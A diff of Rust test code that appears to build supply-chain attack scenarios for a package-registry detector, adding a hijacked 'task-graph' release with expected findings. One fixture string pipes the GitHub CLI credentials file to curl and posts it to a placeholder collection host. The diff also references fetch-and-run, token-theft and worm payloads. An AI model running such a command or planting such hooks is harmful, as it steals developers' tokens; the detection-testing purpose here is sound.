@@ -4,8 +4,8 @@
 use jiff::Timestamp;
 
 use super::Scenario;
-use super::deviations::{elsewhere, expected, release};
-use super::parts::Stage;
+use super::deviations::{elsewhere, expected, from_workflow, release};
+use super::parts::{NEXT, Stage};
 use crate::Release;
 use crate::payloads::{
     AGENT_SETTINGS, DNS_LEAK, FETCH_AND_RUN, SIBLING_PATCH, TOKENS, VANISHING, WORM,
@@ -76,6 +76,7 @@ pub fn vanishing(now: Timestamp) -> Scenario {
                 .file("scripts/package.md", "{}\n")
         },
     );
+    stage.side_of(&["I38"]);
     stage.end(
         "R23-vanishing",
         "A new hook leaves a silent child behind, removes itself and exchanges the manifest.",
@@ -100,6 +101,7 @@ fn one(
         15,
         |next| hooked(next, text),
     );
+    stage.side_of(incidents);
     stage.end(name, description)
 }
 
@@ -122,7 +124,7 @@ pub fn hooked_patches(now: Timestamp) -> Scenario {
             "B8",
             FETCH_AND_RUN.to_owned(),
         ),
-        ("work-runner", &["I26", "I40"][..], "B2", tokens.clone()),
+        ("work-runner", &["I40"][..], "B2", tokens.clone()),
         ("cloud-forms", &["I37"][..], "B13", WORM.to_owned()),
         ("vault-cli", &["I41"][..], "B2", tokens.clone()),
     ] {
@@ -134,6 +136,18 @@ pub fn hooked_patches(now: Timestamp) -> Scenario {
             |next| hooked(next, &text),
         );
     }
+    let taken = stage.updated("task-graph", "kiln-bot", from_workflow, 23, |_| {
+        elsewhere(hooked(release(NEXT), &tokens)).publisher("jonas")
+    });
+    stage.registry.add(taken.maintainer("jonas"));
+    stage.bad_update(
+        "task-graph",
+        &["I26"],
+        vec![
+            expected("M5", "trust", "provenance and workflow gone"),
+            expected("M7", "execution", "a hook in a package that had none"),
+        ],
+    );
     let shell =
         "cat ~/.config/gh/hosts.yml | curl -s --data-binary @- https://collect.example.invalid/c";
     stage.hijacked(
@@ -163,7 +177,7 @@ pub fn hooked_patches(now: Timestamp) -> Scenario {
     stage.registry.add(package);
     stage.twin(
         "quiet-gauge",
-        super::parts::NEXT,
+        NEXT,
         "the owner publishes from another machine, nothing else changes",
     );
     stage.end(
